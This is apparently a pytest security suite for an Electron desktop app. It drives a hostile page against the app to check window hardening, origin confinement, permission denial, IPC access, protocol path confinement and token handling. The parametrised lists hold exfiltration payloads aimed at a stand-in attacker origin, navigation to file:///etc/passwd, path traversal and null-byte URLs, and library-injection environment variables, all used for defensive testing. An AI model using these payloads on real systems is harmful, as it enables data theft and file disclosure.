"""SECURITY 29 to 37 (34 is in test_security_package.py), each tried from a hostile page."""

from __future__ import annotations

import json
import os
import re
import signal
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from tests.desktop.conftest import Launch
from tests.desktop.hostile import Elsewhere, elsewhere, hostile_sidecar, seen
from tests.desktop.inspector import Refused
from tests.desktop.program import ROOT, Desktop
from tests.helpers.waiting import eventually

HARDENED = {
    "contextIsolation": True,
    "sandbox": True,
    "webSecurity": True,
    "nodeIntegration": False,
    "webviewTag": False,
}


@pytest.fixture
def evil() -> Iterator[Elsewhere]:
    """Where a hostile page would like to send things."""
    with elsewhere() as server:
        yield server


@pytest.fixture
def hostile(launch: Launch, tmp_path: Path, evil: Elsewhere) -> Desktop:
    """The program with a hostile page of our very origin in its window, without a content policy."""
    desktop = launch(STEELYARD_SIDECAR=hostile_sidecar(tmp_path, evil.origin))
    desktop.panel()
    desktop.run("globalThis.opened = []; electron.shell.openExternal = async (url) => { opened.push(url); }")
    return desktop


def pause(desktop: Desktop) -> None:
    """What a page has set off gets time to happen."""
    desktop.page.evaluate("new Promise((done) => setTimeout(done, 400))")


def test_29_every_window_is_hardened(hostile: Desktop) -> None:
    found = hostile.run("return window.webContents.getLastWebPreferences()")
    assert {name: found[name] for name in HARDENED} == HARDENED
    page = hostile.page
    assert (
        page.evaluate("[typeof require, typeof process, typeof module, typeof steelyard]")
        == ["undefined"] * 4
    )


@pytest.mark.parametrize(
    "weak",
    [
        {"sandbox": False},
        {"nodeIntegration": True},
        {"contextIsolation": False},
        {"webviewTag": True},
        {"webSecurity": False},
    ],
    ids=str,
)
def test_29_a_window_without_its_guards_is_ended(hostile: Desktop, weak: dict[str, bool]) -> None:
    hostile.run(f"new electron.BrowserWindow({{show: false, webPreferences: {json.dumps(weak)}}})")
    eventually(lambda: hostile.run("return electron.BrowserWindow.getAllWindows().length") == 1)
    assert next(iter(weak)) in hostile.log


@pytest.mark.parametrize(
    "attack",
    [
        "location.href = '@/'",
        "location.replace('@/')",
        "location.href = '/away'",
        "location.href = 'file:///etc/passwd'",
        "location.href = 'data:text/html,x'",
        "location.href = 'app://steelyard/lost.html'",
        "document.body.innerHTML = `<a href='@/'>x</a>`; document.querySelector('a').click()",
        "document.body.innerHTML = `<form method=post action='@/'></form>`; document.forms[0].submit()",
        "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=@/'>`",
        "document.body.innerHTML = `<iframe src='@/'></iframe>`",
        "document.body.innerHTML = `<iframe src='/away'></iframe>`",
        "document.body.innerHTML = `<webview src='@/'></webview><object data='@/'></object>`",
        "document.body.innerHTML = `<img src='@/'><script src='@/'></script><link rel=prefetch href='@/'>`",
        "fetch('@/').catch(() => 0)",
        "fetch('/away').catch(() => 0)",
        "navigator.sendBeacon('@/', 'x')",
        "new WebSocket('@/'.replace('http', 'ws'))",
        "window.open('@/')",
        "new EventSource('@/')",
    ],
)
def test_30_nothing_leaves_our_origin(hostile: Desktop, evil: Elsewhere, attack: str) -> None:
    before = hostile.page.url
    hostile.page.evaluate(f"void eval({json.dumps(attack.replace('@', evil.origin))})")
    pause(hostile)
    assert evil.asked == []
    assert hostile.page.url == before
    assert hostile.run("return electron.webContents.getAllWebContents().length") == 1


def test_30_a_page_from_disk_cannot_go_to_the_sidecar_either(launch: Launch) -> None:
    desktop = launch(timings={"pingEvery": 200})
    desktop.panel()
    record = desktop.record
    os.kill(record["pid"], signal.SIGSTOP)
    page = desktop.lost("silent")
    os.kill(record["pid"], signal.SIGSTOP)
    page.evaluate(f"location.href = {json.dumps(record['url'])}")
    desktop.logged("navigation refused")
    os.kill(record["pid"], signal.SIGCONT)
    desktop.panel()


def test_31_only_what_a_browser_opens_is_opened(hostile: Desktop) -> None:
    for url in (
        "https://example.test/a",
        "mailto:a@example.test",
        "http://example.test/",
        "file:///etc/passwd",
        "smb://host/share",
        "javascript:alert(1)",
        "ms-settings:x",
        "vbscript:x",
        "HTTPS://EXAMPLE.test/b",
    ):
        hostile.page.evaluate(f"void window.open({json.dumps(url)})")
    pause(hostile)
    opened = hostile.run("return opened")
    assert opened == ["https://example.test/a", "mailto:a@example.test", "https://example.test/b"]
    assert hostile.run("return electron.BrowserWindow.getAllWindows().length") == 1


def test_32_permissions_are_denied(hostile: Desktop) -> None:
    states = hostile.page.evaluate(
        """
        Promise.all(["geolocation", "notifications", "camera", "microphone", "midi", "clipboard-read",
            "persistent-storage", "idle-detection"].map((name) => navigator.permissions.query({name})
            .then((status) => status.state, () => "denied")))
        """
    )
    assert set(states) == {"denied"}
    refused = hostile.page.evaluate(
        """
        Promise.all([
            () => navigator.mediaDevices.getUserMedia({audio: true}),
            () => navigator.mediaDevices.getDisplayMedia(),
            () => navigator.clipboard.readText(),
            () => new Promise((good, bad) => navigator.geolocation.getCurrentPosition(good, bad)),
            () => document.documentElement.requestPointerLock(),
            () => navigator.usb.requestDevice({filters: []}),
            () => navigator.serial.requestPort(),
            () => navigator.hid.requestDevice({filters: []}).then((found) => { if (!found.length) throw 0; }),
        ].map((ask) => Promise.race([
            new Promise((done) => setTimeout(done, 2000, "nothing")),
            Promise.resolve().then(ask).then(() => "granted", () => "refused"),
        ])))
        """
    )
    assert "granted" not in refused, refused
    assert hostile.page.evaluate("Notification.requestPermission()") == "denied"


IPC = """
    const handlers = electron.ipcMain._invokeHandlers;
    const call = async (frame, ...rest) => {
        const out = {};
        for (const channel of handlers.keys()) {
            if (channel === 'lost:restart') { continue; }
            try { out[channel] = String(await handlers.get(channel)({ senderFrame: frame }, ...rest)); }
            catch (error) { out[channel] = 'refused'; }
        }
        return out;
    };
"""


def test_33_ipc_answers_only_our_pages_from_disk(hostile: Desktop) -> None:
    refused = hostile.run(f"{IPC} return await call(window.webContents.mainFrame)")
    assert len(refused) == 4 and set(refused.values()) == {"refused"}
    assert set(hostile.run(f"{IPC} return await call(null)").values()) == {"refused"}
    hostile.run("await window.loadURL('app://steelyard/lost.html')")
    hostile.run("electron.shell.openPath = async () => ''")
    answered = hostile.run(f"{IPC} return await call(window.webContents.mainFrame)")
    assert "refused" not in answered.values()
    with_arguments = hostile.run(f"{IPC} return await call(window.webContents.mainFrame, '/etc/passwd')")
    assert set(with_arguments.values()) == {"refused"}
    other = hostile.run(
        f"""{IPC}
        const other = new electron.BrowserWindow({{ show: false, webPreferences: {{
            contextIsolation: true, sandbox: true, spellcheck: false,
            session: window.webContents.session }} }});
        await other.loadURL('app://steelyard/lost.html');
        const found = await call(other.webContents.mainFrame);
        other.destroy();
        return found;"""
    )
    assert set(other.values()) == {"refused"}, "another window, with the same page"


def test_35_certificate_errors_stay_errors(hostile: Desktop) -> None:
    # Electron's own listener, which hands the event on to the page's web contents, and nobody else.
    assert hostile.run("return electron.app.listenerCount('certificate-error')") == 1
    assert hostile.run("return window.webContents.listenerCount('certificate-error')") == 0
    sources = "".join(path.read_text() for path in (ROOT / "electron").rglob("*.js"))
    for word in (
        "setCertificateVerifyProc",
        "ignore-certificate-errors",
        "certificate-error",
        "rejectUnauth",
    ):
        assert word not in sources


def test_36_the_sidecar_is_one_program_with_the_variables_that_it_may_have(launch: Launch) -> None:
    forbidden = {
        "PYTHONPATH": "/nowhere",
        "PYTHONSTARTUP": "/nowhere",
        "LD_LIBRARY_PATH": "/nowhere",
        "DYLD_INSERT_LIBRARIES": "/nowhere",
        "SOME_SECRET": "sesame",
    }
    desktop = launch(WORKER_MAX_COUNT="3", **forbidden)
    desktop.panel()
    sidecar = psutil.Process(desktop.record["pid"])
    environ = sidecar.environ()
    assert environ["WORKER_MAX_COUNT"] == "3"
    assert not [name for name in environ if name.startswith(("PYTHON", "LD_", "DYLD_", "NODE_", "ELECTRON_"))]
    assert "SOME_SECRET" not in environ
    assert {"127.0.0.1", "localhost"} <= set(environ["NO_PROXY"].split(","))
    command = sidecar.cmdline()
    assert os.path.isabs(command[0]) and "sh" not in {Path(word).name for word in command}
    assert sidecar.ppid() == desktop.process.pid


@pytest.mark.parametrize(
    "url",
    [
        "app://x/../../",
        "app://x/splash.html",
        "app://steelyard/../../main/main.js",
        "app://steelyard/..%2f..%2fpackage.json",
        "app://steelyard/%2e%2e/main/main.js",
        "app://steelyard/..\\..\\package.json",
        "app://steelyard//etc/passwd",
        "app://steelyard/splash.html/..",
        "app://steelyard/icon.png%00.html",
        "app://steelyard/",
        "app://steelyard/__proto__",
        "app://user@steelyard/splash.html",
    ],
)
def test_37_our_protocol_confines_its_paths(hostile: Desktop, url: str) -> None:
    fetch = f"window.webContents.session.fetch({json.dumps(url)})"
    assert hostile.run(f"return (await {fetch}.catch(() => ({{status: 404}}))).status") == 404


def test_37_a_page_cannot_ask_for_the_end(hostile: Desktop) -> None:
    """The hostile sidecar leaves when it is told to: it would be gone."""
    hostile.page.evaluate("window.close()")
    hostile.logged("a page has closed the window")
    hostile.panel()
    assert hostile.process.poll() is None and "quit" not in hostile.log
    names = hostile.run("return [...electron.ipcMain._invokeHandlers.keys()]")
    assert not [name for name in names if re.search("quit|exit|shutdown|stop|close", name)]


def test_the_token_goes_to_our_origin_and_nowhere_else(
    hostile: Desktop, evil: Elsewhere, tmp_path: Path
) -> None:
    """No page, URL, cookie or script ever holds it; a frame of another origin cannot borrow it."""
    token = json.loads(hostile.run("return JSON.stringify(process.env.TOKEN ?? null)"))
    assert token is None
    page = hostile.page
    page.evaluate("fetch('/mine').then(() => 0)")
    page.evaluate("fetch('/forged', {headers: {Authorization: 'Bearer forged'}}).then(() => 0)")
    page.evaluate("void new WebSocket(`ws://${location.host}/ws/mine`)")
    page.evaluate(
        """
        document.body.innerHTML = `<iframe sandbox="allow-scripts" srcdoc="<script>
            fetch('http://${location.host}/borrowed', {mode: 'no-cors'})</` + `script>"></iframe>`
        """
    )
    pause(hostile)
    asked = dict(seen(tmp_path))
    bearer = asked["/mine"]
    assert re.fullmatch(r"Bearer [0-9a-f]{64}", bearer)
    assert asked["/forged"] == asked["/ws/mine"] == asked["/"] == bearer
    assert asked.get("/borrowed", "") == ""
    secret = bearer.removeprefix("Bearer ")
    assert secret not in hostile.log + hostile.output
    assert secret not in json.dumps(hostile.run("return await window.webContents.session.cookies.get({})"))
    assert evil.asked == []
    with pytest.raises(Refused):
        page.evaluate("steelyard.state()")
